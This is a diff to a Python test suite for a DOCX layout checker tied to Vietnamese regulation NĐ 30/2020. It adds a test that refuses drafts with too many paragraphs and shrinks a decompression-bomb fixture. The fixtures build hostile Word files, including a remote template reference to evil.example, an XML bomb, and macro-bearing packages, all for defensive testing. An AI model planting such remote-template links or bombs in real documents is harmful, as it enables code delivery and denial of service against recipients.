@@ -17,6 +17,7 @@ from app.cli import cli
 from app.regulation import layout, layout_check
 from app.regulation.drafting.skeleton import SKELETONS
 from app.tools import docx as drafts
+from app.tools.docx_layout import TooLongToCheck
 from app.tools.office import HasMacros, HasOutsideContent, TruncatedFile, UnpacksTooLarge
 
 
@@ -203,8 +204,10 @@ def test_art_3_1_dd_each_rule_finds_its_fault_and_no_other_and_repairs_what_is_s
     assert {one.rule for one in found} == {rule}, [one.as_json() for one in found]
     assert all(one.where and one.should and one.article.startswith("NĐ 30/2020 PL I") for one in found)
     assert all(bool(one.repair) is is_safe for one in found)
+    if not is_safe:
+        return
     mended = layout_check.repaired(wrong, {rule}, kind)
-    assert (layout_check.check(mended, kind) == []) is is_safe
+    assert layout_check.check(mended, kind) == []
     words = [re.sub(r"[\s.;,:/]", "", drafts.text(one)) for one in (mended, wrong)]
     assert words[0] == words[1], "a repair changes no word"
 
@@ -240,7 +243,7 @@ def broken(name):
     rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship ' \
            b'Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>' \
            b"</Relationships>"
-    bomb = b"<a>" + b"0" * 60_000_000 + b"</a>"
+    bomb = b"<a>" + b"0" * 11_000_000 + b"</a>"
     return {
         "macros": lambda: packed(good, **{"[Content_Types]": b'<Types xmlns="http://schemas.openxmlformats.org/package/'
                                  b'2006/content-types"><Override PartName="/word/document.xml" ContentType="application'
@@ -258,6 +261,15 @@ def _with_rels(data, rels):
     with zipfile.ZipFile(out, "a") as target:
         target.writestr("word/_rels/settings.xml.rels", rels)
     return out.getvalue()
+
+
+def test_a_draft_of_too_many_paragraphs_is_refused_before_it_is_looked_at():
+    def longer(document):
+        document.element.body.insert(0, docx.oxml.parse_xml(
+            f'<w:tbl {docx.oxml.ns.nsdecls("w")}>{"<w:tr><w:tc><w:p/></w:tc></w:tr>" * 20_000}</w:tbl>'))
+
+    with pytest.raises(TooLongToCheck):
+        layout_check.check(changed(right(), longer))
 
 
 @pytest.mark.parametrize(("name", "refusal"), [
